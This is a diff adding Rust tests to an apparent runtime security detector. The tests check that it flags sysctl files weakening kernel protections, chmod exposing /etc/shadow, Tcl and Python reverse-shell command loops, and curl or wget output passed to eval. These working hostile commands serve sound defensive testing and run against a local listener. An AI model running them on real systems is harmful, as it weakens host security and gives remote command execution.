@@ -7429,3 +7429,307 @@ fn thc_deploy_scripts_encoded_python_one_liners_and_hack_tool_names() {
         raised(run(&mut Command::new(&path)), name, rule_id, TOOL, label);
     }
 }
+
+/// The findings of `found` at Medium or above, as `(type, ruleId)`.
+fn loud(found: &[Finding]) -> Vec<(String, String)> {
+    let loud: Vec<Finding> = found
+        .iter()
+        .filter(|f| f.severity_label >= SeverityLabel::Medium)
+        .cloned()
+        .collect();
+    kinds(&loud)
+}
+
+#[test]
+fn kernel_settings_files_written_with_a_weak_setting() {
+    if !privileged("kernel_settings_files_written_with_a_weak_setting") {
+        return;
+    }
+    let n = nonce();
+    let mut clean = Cleanup::default();
+    clean.dirs(Path::new("/run/sysctl.d"));
+    clean.dirs(Path::new("/usr/local/lib/sysctl.d"));
+    let etc = clean.file(format!("/etc/sysctl.d/99-{n}.conf"));
+    let run_dir = clean.file(format!("/run/sysctl.d/99-{n}.conf"));
+    let local = clean.file(format!("/usr/local/lib/sysctl.d/99-{n}.conf"));
+    let usr = clean.file(format!("/usr/lib/sysctl.d/99-{n}.conf"));
+    let evasion = "DefenseEvasion:Runtime/SensitiveFileModified";
+    let weakened = "behaviour-sysctl-file-weakened";
+    let raised = |pid: u32, t: &str, setting: &str, value: &str, file: &str| {
+        let found = detect(pid);
+        let f = of(&found, weakened);
+        assert_eq!(f.len(), 1, "{file}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, t, "{file}");
+        assert_eq!(f[0].severity_label, SeverityLabel::Medium, "{file}");
+        assert_eq!(f[0].context.file_path.as_deref(), Some(file));
+        let a = &f[0].context.additional;
+        assert_eq!(a["setting"], setting, "{file}");
+        assert_eq!(a["value"], value, "{file}");
+    };
+    // Atomic Red Team's and an admin's ways: a redirection, spaces and a comment, the slash
+    // form and the `-` prefix, several settings, python writing the file.
+    let pid = sh(&format!("echo kernel.randomize_va_space=0 > {etc}"));
+    raised(pid, evasion, "kernel.randomize_va_space", "0", &etc);
+    let pid = sh(&format!(
+        "printf '# tuning\\nnet.ipv4.ip_forward = 1\\nkernel.randomize_va_space = 0\\n' > {etc}"
+    ));
+    raised(pid, evasion, "kernel.randomize_va_space", "0", &etc);
+    let pid = sh(&format!(
+        "printf 'kernel/yama/ptrace_scope=0\\n-kernel.kptr_restrict = 0\\n' > {run_dir}"
+    ));
+    // Yama may be absent from this kernel: the file is what counts.
+    raised(pid, evasion, "kernel.yama.ptrace_scope", "0", &run_dir);
+    let pid = sh(&format!("echo 'kernel.core_pattern=|/tmp/x %p' > {local}"));
+    raised(
+        pid,
+        "PrivilegeEscalation:Runtime/SensitiveFileModified",
+        "kernel.core_pattern",
+        "|/tmp/x %p",
+        &local,
+    );
+    let pid = run(Command::new("python3").args([
+        "-c",
+        &format!(
+            "open('{usr}', 'w').write('fs.protected_symlinks=0\\nfs.protected_hardlinks = 0\\n')"
+        ),
+    ]));
+    raised(pid, evasion, "fs.protected_symlinks", "0", &usr);
+    // Ordinary tuning and full randomisation: nothing at Medium or above.
+    for text in [
+        "vm.swappiness=10",
+        "kernel.randomize_va_space = 2",
+        "#kernel.kptr_restrict=0",
+    ] {
+        let pid = sh(&format!("echo '{text}' > {etc}"));
+        let found = detect(pid);
+        assert!(loud(&found).is_empty(), "{text}: {:?}", kinds(&found));
+    }
+}
+
+/// Puts back the modes of files a test changes, when dropped (a failed assertion included).
+struct RestoreModes(Vec<(String, u32)>);
+
+impl RestoreModes {
+    fn of(paths: &[&str]) -> Self {
+        Self(
+            paths
+                .iter()
+                .map(|p| {
+                    let mode = std::fs::metadata(p).expect("stat").permissions().mode() & 0o7777;
+                    ((*p).to_owned(), mode)
+                })
+                .collect(),
+        )
+    }
+}
+
+impl Drop for RestoreModes {
+    fn drop(&mut self) {
+        for (path, mode) in &self.0 {
+            let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode));
+        }
+    }
+}
+
+#[test]
+fn the_password_hashes_made_readable_by_every_account() {
+    if !privileged("the_password_hashes_made_readable_by_every_account") {
+        return;
+    }
+    let restore = RestoreModes::of(&["/etc/shadow", "/etc/gshadow"]);
+    let was = |path: &str| {
+        restore
+            .0
+            .iter()
+            .find(|(p, _)| p == path)
+            .map(|(_, m)| *m)
+            .expect("mode kept")
+    };
+    let put_back = |path: &str| {
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(was(path)))
+            .expect("put the mode back");
+    };
+    let exposed = "behaviour-password-hashes-exposed";
+    let raised = |pid: u32, path: &str, mode: &str, how: &str| {
+        let found = detect(pid);
+        let f = of(&found, exposed);
+        assert_eq!(f.len(), 1, "{how}: {:?}", kinds(&found));
+        assert_eq!(
+            f[0].finding_type, "PrivilegeEscalation:Runtime/SensitiveFileModified",
+            "{how}"
+        );
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{how}");
+        assert_eq!(f[0].context.file_path.as_deref(), Some(path), "{how}");
+        assert_eq!(f[0].context.additional["mode"], mode, "{how}");
+    };
+    let pid = run(Command::new("chmod").args(["0644", "/etc/shadow"]));
+    put_back("/etc/shadow");
+    raised(pid, "/etc/shadow", "0644", "chmod 0644");
+    let pid = run(Command::new("chmod").args(["o+r", "/etc/gshadow"]));
+    put_back("/etc/gshadow");
+    raised(
+        pid,
+        "/etc/gshadow",
+        &format!("{:04o}", was("/etc/gshadow") | 0o004),
+        "chmod o+r",
+    );
+    let pid =
+        run(Command::new("python3").args(["-c", "import os; os.chmod('/etc/shadow', 0o604)"]));
+    put_back("/etc/shadow");
+    raised(pid, "/etc/shadow", "0604", "python os.chmod");
+    // The distribution's own modes given again: nothing at Medium or above.
+    for mode in ["0640", "0600", "o-r"] {
+        let pid = run(Command::new("chmod").args([mode, "/etc/shadow"]));
+        put_back("/etc/shadow");
+        let found = detect(pid);
+        assert!(loud(&found).is_empty(), "chmod {mode}: {:?}", kinds(&found));
+    }
+}
+
+/// A listener on 127.0.0.1 that sends each of `commands` as a line to the first connection and
+/// reads what comes back; returns its port and the thread (joined for what it read).
+fn command_peer(commands: &'static [&'static str]) -> (u16, std::thread::JoinHandle<String>) {
+    use std::io::Read as _;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
+    let port = listener.local_addr().expect("local address").port();
+    let peer = std::thread::spawn(move || {
+        let Ok((mut conn, _)) = listener.accept() else {
+            return String::new();
+        };
+        let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
+        let mut got = String::new();
+        for c in commands {
+            let _ = conn.write_all(format!("{c}\n").as_bytes());
+            std::thread::sleep(Duration::from_millis(500));
+            let mut buf = [0u8; 4096];
+            if let Ok(n) = conn.read(&mut buf) {
+                got.push_str(&String::from_utf8_lossy(&buf[..n]));
+            }
+        }
+        got
+    });
+    (port, peer)
+}
+
+#[test]
+fn interpreter_loops_that_run_what_a_socket_sends() {
+    if !privileged("interpreter_loops_that_run_what_a_socket_sends") {
+        return;
+    }
+    let Ok(tclsh) = which("tclsh") else {
+        not_tested("NOT TESTED tcl command loop: no tclsh");
+        return;
+    };
+    let looped = "behaviour-reverse-shell-command-loop";
+    let raised = |pid: u32, how: &str, got: &str| {
+        assert!(got.contains("uid=0"), "{how}: the peer read {got:?}");
+        let found = detect(pid);
+        let f = of(&found, looped);
+        assert!(!f.is_empty(), "{how}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell", "{how}");
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{how}");
+        assert!(
+            f[0].context.additional["connectedTo"].starts_with("127.0.0.1:"),
+            "{how}"
+        );
+    };
+    // revshells.com's Tcl form, its program on tclsh's standard input.
+    let (port, peer) = command_peer(&["id", "uname -a"]);
+    let program = format!(
+        "set s [socket 127.0.0.1 {port}]; while {{[gets $s c] >= 0}} {{ catch {{exec {{*}}$c}} r; \
+         puts $s $r; flush $s }}"
+    );
+    let pid = run_with_input(&mut Command::new(&tclsh), program.as_bytes());
+    raised(pid, "tclsh exec loop", &peer.join().unwrap_or_default());
+    // python's recv loop with `shell=True`: the line keeps its newline.
+    let (port, peer) = command_peer(&["id"]);
+    let pid = run(Command::new("python3").args([
+        "-c",
+        &format!(
+            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
+             while True:\n  c=s.recv(1024)\n  if not c: break\n  \
+             s.sendall(subprocess.run(c.decode(),shell=True,capture_output=True).stdout)"
+        ),
+    ]));
+    raised(pid, "python recv loop", &peer.join().unwrap_or_default());
+    // tclsh running a program with no connection, and python fetching a page and then
+    // running commands it wrote itself: nothing at Medium or above.
+    let pid = run_with_input(&mut Command::new(&tclsh), b"puts [exec uname -r]\n");
+    let found = detect(pid);
+    assert!(loud(&found).is_empty(), "tclsh exec: {:?}", kinds(&found));
+    let (port, peer) = command_peer(&["hello"]);
+    let pid = run(Command::new("python3").args([
+        "-c",
+        &format!(
+            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
+             s.recv(64)\nsubprocess.run('uname -r',shell=True,capture_output=True)\n\
+             subprocess.run(['ls','/'],capture_output=True)\ns.close()"
+        ),
+    ]));
+    let _ = peer.join();
+    let found = detect(pid);
+    assert!(
+        loud(&found).is_empty(),
+        "python fetch then run: {:?}",
+        kinds(&found)
+    );
+}
+
+#[test]
+fn downloads_a_script_hands_to_eval() {
+    if !privileged("downloads_a_script_hands_to_eval") {
+        return;
+    }
+    let url = http_server();
+    let dir = Scratch::new("eval");
+    // Each form as a script file run by bash: the shell evaluates the substitution itself.
+    let script = |name: &str, body: &str| {
+        let path = dir.path(name);
+        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
+        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
+    };
+    for (name, body, writer) in [
+        (
+            "curl.sh",
+            format!("eval \"$(curl -s {url}/x.sh)\""),
+            "/usr/bin/curl",
+        ),
+        (
+            "wget.sh",
+            format!("eval $(wget -qO- {url}/x.sh)"),
+            "/usr/bin/wget",
+        ),
+        (
+            "backticks.sh",
+            format!("eval `curl -fsSL {url}/x.sh`"),
+            "/usr/bin/curl",
+        ),
+    ] {
+        let found = detect(script(name, &body));
+        let f = of(&found, "behaviour-download-pipe-exec");
+        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
+        let a = &f[0].context.additional;
+        assert_eq!(a["pipeWriter"], writer, "{body}");
+        assert_eq!(
+            a["programReadFrom"], "a command substitution its script evaluates",
+            "{body}"
+        );
+        assert_eq!(a["script"], dir.path(name), "{body}");
+    }
+    // A value fetched and used as data, and eval of a local program's output: nothing at
+    // Medium or above.
+    for (name, body) in [
+        (
+            "data.sh",
+            format!("v=$(curl -s {url}/v.json); echo \"$v\" | wc -c"),
+        ),
+        (
+            "dircolors.sh",
+            "eval \"$(dircolors -b)\"; curl -s -o /dev/null URL".replace("URL", &url),
+        ),
+    ] {
+        let found = detect(script(name, &body));
+        assert!(loud(&found).is_empty(), "{body}: {:?}", kinds(&found));
+    }
+}
